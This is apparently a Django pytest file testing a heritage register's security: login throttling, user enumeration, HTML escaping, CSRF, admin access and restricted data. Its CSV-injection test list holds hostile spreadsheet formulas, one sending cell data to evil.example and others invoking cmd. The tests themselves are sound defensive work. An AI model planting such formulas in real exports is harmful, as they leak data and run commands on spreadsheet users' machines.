"""Security: login throttling, no user enumeration, escaping of everything staff type, the
CSV formula guard, CSRF on every form, the admin behind its login, and restricted data kept
out of every public response."""

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core import mail
from django.db import models
from django.test import Client, RequestFactory
from django.urls import reverse

from heritage.base import PublicationStatus
from heritage.models import LocationPrecision, Place, Site, Source
from heritage.security import client_ip
from inspections.models import Assessment, Visit
from tests import factories

pytestmark = pytest.mark.django_db

PROJECT = Path(__file__).resolve().parents[2]
PASSWORD = "correct horse battery staple"
LANGUAGES = ["en", "az", "ar"]


# --- Login throttling ----------------------------------------------------------------------


@pytest.fixture
def throttled(settings):
    """django-axes on, as in production (the test settings turn it off for Client.login)."""
    settings.AXES_ENABLED = True
    return settings.AXES_FAILURE_LIMIT


@pytest.fixture
def curator(db):
    return get_user_model().objects.create_user(
        "curator", "curator@register.example", PASSWORD, is_staff=True, is_superuser=True
    )


def log_in(client, username, password, **extra):
    return client.post(
        "/admin/login/?next=/admin/", {"username": username, "password": password}, **extra
    )


def test_admin_login_is_refused_after_repeated_failures_even_with_the_right_password(
    client, curator, throttled
):
    statuses = [log_in(client, "curator", f"guess {n}").status_code for n in range(throttled)]
    assert statuses == [200] * (throttled - 1) + [429]

    response = log_in(client, "curator", PASSWORD)
    assert response.status_code == 429
    assert "too many login attempts" in response.content.decode()
    assert client.get("/admin/").status_code == 302  # not logged in


def test_login_works_below_the_limit_and_success_clears_the_failures(client, curator, throttled):
    for n in range(throttled - 1):
        assert log_in(client, "curator", f"guess {n}").status_code == 200
    assert log_in(client, "curator", PASSWORD).status_code == 302
    client.logout()
    for n in range(throttled - 1):
        assert log_in(client, "curator", f"guess again {n}").status_code == 200
    assert log_in(client, "curator", PASSWORD).status_code == 302


def test_lockout_of_one_address_leaves_other_addresses_free(curator, throttled):
    attacker, colleague = Client(REMOTE_ADDR="198.51.100.7"), Client(REMOTE_ADDR="198.51.100.8")
    for n in range(throttled):
        log_in(attacker, "curator", f"guess {n}")
    assert log_in(attacker, "curator", PASSWORD).status_code == 429
    assert log_in(colleague, "curator", PASSWORD).status_code == 302


def test_behind_a_proxy_the_lockout_follows_the_address_the_proxy_saw(settings, curator, throttled):
    settings.TRUSTED_PROXY_COUNT = 1
    proxy = "10.0.0.2"
    attacker = Client(REMOTE_ADDR=proxy)
    for n in range(throttled):
        # The attacker varies what it claims to be; the proxy appends what it saw.
        log_in(attacker, "curator", f"guess {n}", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}, 6.6.6.6")
    locked = log_in(attacker, "curator", PASSWORD, HTTP_X_FORWARDED_FOR="1.1.1.1, 6.6.6.6")
    assert locked.status_code == 429
    colleague = Client(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR="192.0.2.44")
    assert log_in(colleague, "curator", PASSWORD).status_code == 302


@pytest.mark.parametrize(
    ("count", "forwarded", "expected"),
    [
        (0, "203.0.113.9", "10.0.0.1"),  # no proxy trusted: the header is the client's word
        (1, "203.0.113.9", "203.0.113.9"),
        (1, "6.6.6.6, 203.0.113.9", "203.0.113.9"),  # the left entry is spoofed
        (2, "6.6.6.6, 203.0.113.9, 10.0.0.5", "203.0.113.9"),
        (2, "203.0.113.9", "10.0.0.1"),  # fewer entries than proxies
        (1, "not-an-address", "10.0.0.1"),
        (1, "", "10.0.0.1"),
        (1, " 2001:db8::1 ", "2001:db8::1"),
    ],
)
def test_client_address_is_read_from_the_trusted_proxies_only(settings, count, forwarded, expected):
    settings.TRUSTED_PROXY_COUNT = count
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded)
    assert client_ip(request) == expected


# --- No user enumeration ------------------------------------------------------------------


def without_tokens(response, *words):
    text = response.content.decode()
    text = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", text)
    for word in words:
        text = text.replace(word, "USERNAME")
    return text


def test_failed_login_reads_the_same_for_an_unknown_user_and_a_wrong_password(client, curator):
    wrong_password = log_in(client, "curator", "not the password")
    unknown_user = log_in(client, "nobody-here", "not the password")
    assert wrong_password.status_code == unknown_user.status_code == 200
    assert without_tokens(wrong_password, "curator") == without_tokens(unknown_user, "nobody-here")


def test_lockout_reads_the_same_for_an_unknown_user_and_a_known_one(curator, throttled):
    known, unknown = Client(REMOTE_ADDR="198.51.100.7"), Client(REMOTE_ADDR="198.51.100.8")
    for n in range(throttled):
        known_response = log_in(known, "curator", f"guess {n}")
        unknown_response = log_in(unknown, "nobody-here", f"guess {n}")
        assert known_response.status_code == unknown_response.status_code
    assert known_response.content == unknown_response.content


def test_password_reset_answers_the_same_whether_or_not_the_address_is_known(client, curator):
    known = client.post("/admin/password_reset/", {"email": "curator@register.example"})
    unknown = client.post("/admin/password_reset/", {"email": "nobody@register.example"})
    assert known.status_code == unknown.status_code == 302
    assert known["Location"] == unknown["Location"] == "/admin/password_reset/done/"
    assert [message.to for message in mail.outbox] == [["curator@register.example"]]


def test_staff_reset_a_forgotten_password_by_email(client, curator):
    assert b"/admin/password_reset/" in client.get("/admin/login/").content
    client.post("/admin/password_reset/", {"email": "curator@register.example"})
    link = re.search(r"http://testserver(/admin/reset/\S+/)", mail.outbox[0].body).group(1)
    form = client.get(link, follow=True)
    assert form.status_code == 200
    new_password = "a different long passphrase"
    done = client.post(
        form.redirect_chain[-1][0],
        {"new_password1": new_password, "new_password2": new_password},
    )
    assert done["Location"] == "/admin/reset/done/"
    assert log_in(Client(), "curator", new_password).status_code == 302


# --- Escaping of everything staff type ------------------------------------------------------

#: Raw, this would open an element; escaped, it is text.
HOSTILE = "'\"<x-hostile>"
ESCAPED = "&#x27;&quot;&lt;x-hostile&gt;"


def typed_text_fields(model):
    """Text fields staff fill in, in the admin or in an import."""
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if isinstance(field, models.SlugField | models.URLField | models.EmailField):
            continue
        if field.choices or not field.editable or field.primary_key:
            continue
        if field.max_length and field.max_length < len(HOSTILE) + 8:
            continue
        yield field


def register_models():
    return [
        model
        for app in ("heritage", "inspections")
        for model in apps.get_app_config(app).get_models()
        if not model.__name__.startswith("Historical")
    ]


def fill_with_hostile_text():
    """Every typed text field of every row gets the hostile text (with the row's id, where a
    field must be unique). Returns the number of fields filled."""
    filled = 0
    for model in register_models():
        fields = list(typed_text_fields(model))
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            model._base_manager.filter(pk=pk).update(
                **{field.name: f"{HOSTILE}{pk}" for field in fields}
            )
        filled += len(fields)
    return filled


@pytest.fixture
def full_register():
    """One of every public record, linked as on the real register, with what hangs off them."""
    district = factories.PlaceFactory(
        kind=Place.Kind.DISTRICT, latitude=Decimal("39.6"), longitude=Decimal("47.1")
    )
    village = factories.PlaceFactory(
        kind=Place.Kind.VILLAGE, parent=district, latitude=Decimal("39.5"), longitude=Decimal("47")
    )
    factories.PlaceNameFactory(place=village)
    organisation = factories.OrganisationFactory(acronym="ORG")
    person = factories.PersonFactory(organisation=organisation, position="Head of mission")
    source = factories.SourceFactory(published=True, author="A. Author", notes="Public notes.")
    site = factories.SiteFactory(
        published=True,
        place=village,
        latitude=Decimal("39.512345"),
        longitude=Decimal("47.054321"),
        location_precision=LocationPrecision.EXACT,
        dating_label="17th century",
        registry_number="No. 123",
        description="A mosque.",
    )
    factories.SiteNameFactory(site=site)
    factories.SiteClaimFactory(site=site, source=source, published=True)
    factories.SiteClaimFactory(
        site=site, source=source, published=True, kind="identity", year_from=None, year_to=None
    )
    factories.SiteCitationFactory(site=site, source=source, locator="p. 3")
    visit = factories.VisitFactory(published=True, summary="The delegation saw the mosque.")
    visit.organisations.add(organisation)
    visit.places.add(village)
    factories.ParticipationFactory(visit=visit, person=person, role="leader")
    factories.VisitCitationFactory(visit=visit, source=source, locator="para. 2")
    assessment = factories.AssessmentFactory(
        site=site, visit=visit, published=True, assessed_by=organisation, summary="Damaged."
    )
    factories.AssessmentCitationFactory(assessment=assessment, source=source, locator="p. 4")
    disturbance = factories.DisturbanceFactory(assessment=assessment, description="Fire.")
    factories.ResponsibilityClaimFactory(disturbance=disturbance, source=source, summary="Said.")
    factories.ReportedFigureFactory(
        published=True,
        source=source,
        reported_by=organisation,
        area=district,
        area_label="Fuzuli",
        period_label="1993-2020",
        summary="Reported.",
    )
    return {"site": site, "visit": visit, "source": source, "district": district}


def public_urls(register):
    site, visit, source = register["site"], register["visit"], register["source"]
    return [
        "/",
        "/sites/",
        f"/sites/?q={site.name[:4]}",
        f"/sites/?area={register['district'].slug}",
        site.get_absolute_url(),
        "/visits/",
        visit.get_absolute_url(),
        "/figures/",
        f"/sources/{source.pk}/",
        "/sites/export.csv",
        "/sites/export.geojson",
        f"/sites/export.geojson?site={site.slug}",
    ]


def fetch(client, url, language="en"):
    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body.decode()


def test_hostile_text_in_every_typed_field_is_escaped_on_every_public_page(client, full_register):
    assert fill_with_hostile_text() > 30
    shown_escaped = set()
    for language in LANGUAGES:
        for url in public_urls(full_register):
            response, body = fetch(client, url, language)
            assert "<x-hostile" not in body or not response["Content-Type"].startswith(
                "text/html"
            ), url
            if response["Content-Type"].startswith("text/html"):
                if ESCAPED in body:
                    shown_escaped.add(url)
            elif "json" in response["Content-Type"]:
                # JSON carries the text as text: it parses back to exactly what was typed.
                collection = json.loads(body)
                names = [feature["properties"]["name"] for feature in collection["features"]]
                assert all(name.startswith(HOSTILE) for name in names), names
    # The hostile text is really shown (escaped) on the pages, not merely absent.
    assert {"/", "/figures/", "/visits/", "/sites/"} <= shown_escaped
    assert full_register["site"].get_absolute_url() in shown_escaped


def test_hostile_text_reaches_every_part_of_the_dossier_only_as_text(client, full_register):
    fill_with_hostile_text()
    _response, body = fetch(client, full_register["site"].get_absolute_url())
    # Names, place, description, claims, citations, assessment, disturbance, responsibility.
    assert body.count(ESCAPED) >= 10
    assert "<x-hostile" not in body


def test_hostile_text_reaches_the_map_only_as_data(client, full_register):
    """The map reads names from the GeoJSON and writes them as text (static/js/map.js); the
    page holds no name in a script."""
    fill_with_hostile_text()
    _response, body = fetch(client, "/sites/")
    for script in re.findall(r"<script\b[^>]*>(.*?)</script>", body, flags=re.S):
        assert script.strip() == ""


# --- CSV formula injection ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(client, url="/sites/export.csv"):
    _response, body = fetch(client, url)
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas_in_every_text_cell(client, formula):
    factories.SiteFactory(
        published=True,
        name=formula,
        place=factories.PlaceFactory(name=formula),
        dating_label=formula,
        latitude=Decimal("-12.5"),
        longitude=Decimal("-7"),
        location_precision=LocationPrecision.EXACT,
    )
    [row] = csv_rows(client)
    assert row["name"] == f"'{formula}"
    assert row["place"] == f"'{formula}"
    assert row["dating"] == f"'{formula}"
    for column, cell in row.items():
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            # Only numbers (negative coordinates) may start so: a spreadsheet reads them as
            # numbers, never as formulas.
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), (column, cell)
    assert row["latitude"] == "-12.500000"


def test_csv_export_neutralises_formulas_in_translated_names(client):
    site = factories.SiteFactory(published=True, name="Plain name")
    factories.SiteNameFactory(site=site, name="=cmd|'/C calc'!A0", language="az", kind="official")
    _response, body = fetch(client, "/sites/export.csv", "az")
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["name"] == "'=cmd|'/C calc'!A0"


# --- CSRF and the admin's login ---------------------------------------------------------------


def test_every_form_that_posts_carries_a_csrf_token(client, full_register):
    forms = 0
    for url in [*public_urls(full_register)[:9], "/admin/login/", "/admin/password_reset/"]:
        response, body = fetch(client, url)
        if not response["Content-Type"].startswith("text/html"):
            continue
        for form in re.findall(r"<form\b[^>]*>.*?</form>", body, flags=re.S | re.I):
            if re.search(r'method="post"', form, flags=re.I):
                forms += 1
                assert 'name="csrfmiddlewaretoken"' in form, (url, form[:200])
    assert forms >= 10  # the language switcher on every page, and the admin's forms


@pytest.mark.parametrize(
    ("url", "data"),
    [
        ("/i18n/setlang/", {"language": "ar"}),
        ("/admin/login/", {"username": "curator", "password": PASSWORD}),
        ("/admin/password_reset/", {"email": "curator@register.example"}),
    ],
)
def test_a_post_without_the_csrf_token_is_refused(curator, url, data):
    client = Client(enforce_csrf_checks=True)
    response = client.post(url, data)
    assert response.status_code == 403
    assert mail.outbox == []


def test_a_post_with_the_csrf_token_is_accepted(curator):
    client = Client(enforce_csrf_checks=True)
    page = client.get("/admin/login/").content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    response = client.post(
        "/admin/login/?next=/admin/",
        {"username": "curator", "password": PASSWORD, "csrfmiddlewaretoken": token},
    )
    assert response.status_code == 302
    assert response["Location"] == "/admin/"


def admin_urls():
    urls = ["/admin/"]
    for model in admin.site._registry:
        opts = model._meta
        urls.append(reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"))
        urls.append(reverse(f"admin:{opts.app_label}_{opts.model_name}_add"))
    return urls


def test_every_admin_page_needs_a_staff_login(client):
    member = get_user_model().objects.create_user("member", "m@register.example", PASSWORD)
    visitors = {"anonymous": Client(), "non-staff": Client()}
    visitors["non-staff"].force_login(member)
    for name, visitor in visitors.items():
        for url in admin_urls():
            response = visitor.get(url)
            assert response.status_code == 302, (name, url)
            assert response["Location"].startswith("/admin/login/"), (name, url)


# --- Restricted data never reaches the public ------------------------------------------------

SECRET = "restricted-7f3a"


def test_drafts_withheld_coordinates_and_staff_identities_never_reach_the_public(
    client, full_register
):
    site = full_register["site"]
    uploader = get_user_model().objects.create_user(
        f"{SECRET}-uploader",
        f"{SECRET}@staff.register.example",
        PASSWORD,
        first_name=f"{SECRET}-first",
        last_name=f"{SECRET}-last",
        is_staff=True,
    )
    # Whoever entered, submitted or reviewed a record, and staff-only notes on it.
    for model in register_models():
        user_fields = [
            field.name
            for field in model._meta.concrete_fields
            if isinstance(field, models.ForeignKey)
            and field.related_model is get_user_model()
            and not model.__name__.startswith("Historical")
        ]
        staff_notes = [
            field.name
            for field in typed_text_fields(model)
            if "review" in field.name or "internal" in field.name
        ]
        values = dict.fromkeys(user_fields, uploader)
        values.update(dict.fromkeys(staff_notes, f"{SECRET} staff note"))
        if values:
            model._base_manager.update(**values)
    # Drafts and records in review, linked to the public ones.
    for status in (
        PublicationStatus.DRAFT,
        PublicationStatus.IN_REVIEW,
        PublicationStatus.REJECTED,
    ):
        draft_site = factories.SiteFactory(
            name=f"{SECRET} zebrastripe {status}", place=site.place, publication_status=status
        )
        factories.AssessmentFactory(
            site=site, summary=f"{SECRET} assessment {status}", publication_status=status
        )
        factories.AssessmentFactory(
            site=draft_site,
            visit=full_register["visit"],
            publication_status=PublicationStatus.PUBLISHED,
        )
        factories.SiteClaimFactory(
            site=site, statement=f"{SECRET} claim {status}", publication_status=status
        )
        draft_source = factories.SourceFactory(
            title=f"{SECRET} source {status}", publication_status=status
        )
        factories.SiteCitationFactory(site=site, source=draft_source, summary=f"{SECRET} cites")
        factories.VisitFactory(title=f"{SECRET} visit {status}", publication_status=status)
        factories.ReportedFigureFactory(
            subject=f"{SECRET} figure {status}", publication_status=status
        )
    # The site's own position is withheld: only its village's position may be shown.
    Site.objects.filter(pk=site.pk).update(location_precision=LocationPrecision.WITHHELD)

    urls = public_urls(full_register)
    urls += ["/sites/?q=zebrastripe", "/sites/export.csv?q=zebrastripe"]
    urls += [f"/sources/{pk}/" for pk in Source.objects.public().values_list("pk", flat=True)]
    for language in LANGUAGES:
        for url in urls:
            _response, body = fetch(client, url, language)
            assert SECRET not in body, url
            for number in ("39.51234", "47.05432"):  # the site's own position
                assert number not in body, url
    # Unpublished records have no public page at all.
    for record in [
        *Site.objects.exclude(publication_status=PublicationStatus.PUBLISHED),
        *Visit.objects.exclude(publication_status=PublicationStatus.PUBLISHED),
    ]:
        assert client.get(record.get_absolute_url()).status_code == 404
    for source in Source.objects.exclude(publication_status=PublicationStatus.PUBLISHED):
        assert client.get(f"/sources/{source.pk}/").status_code == 404
    assert Assessment.objects.exclude(publication_status=PublicationStatus.PUBLISHED).exists()


# --- Templates keep to the Content-Security-Policy ------------------------------------------

INLINE_CODE = [
    (re.compile(r"<script\b(?![^>]*\bsrc=)[^>]*>", re.I), "an inline <script> block"),
    (re.compile(r"\son[a-z]+\s*=", re.I), "an on*= event handler attribute"),
    (re.compile(r"\sstyle\s*=", re.I), "a style= attribute"),
    (re.compile(r"<style\b", re.I), "a <style> block"),
    (re.compile(r"javascript:", re.I), "a javascript: URL"),
]


def project_templates():
    folders = [PROJECT / "templates"] + [
        Path(config.path) / "templates"
        for config in apps.get_app_configs()
        if Path(config.path).is_relative_to(PROJECT) and "site-packages" not in config.path
    ]
    return sorted({path for folder in folders for path in folder.rglob("*.html")})


def test_no_template_holds_inline_code_or_styles():
    templates = project_templates()
    assert len(templates) >= 10
    found = []
    for template in templates:
        text = template.read_text(encoding="utf-8")
        text = re.sub(r"{%\s*comment\s*%}.*?{%\s*endcomment\s*%}", "", text, flags=re.S)
        for pattern, what in INLINE_CODE:
            if pattern.search(text):
                found.append(f"{template.relative_to(PROJECT)}: {what}")
    assert found == []


def test_login_throttling_is_configured_for_production():
    """The values the tests above rely on are the production ones."""
    assert django_settings.AXES_FAILURE_LIMIT == 5
    assert django_settings.AXES_LOCKOUT_PARAMETERS == ["ip_address"]
    assert django_settings.AXES_RESET_ON_SUCCESS is True
    assert django_settings.AUTHENTICATION_BACKENDS[0] == "axes.backends.AxesStandaloneBackend"
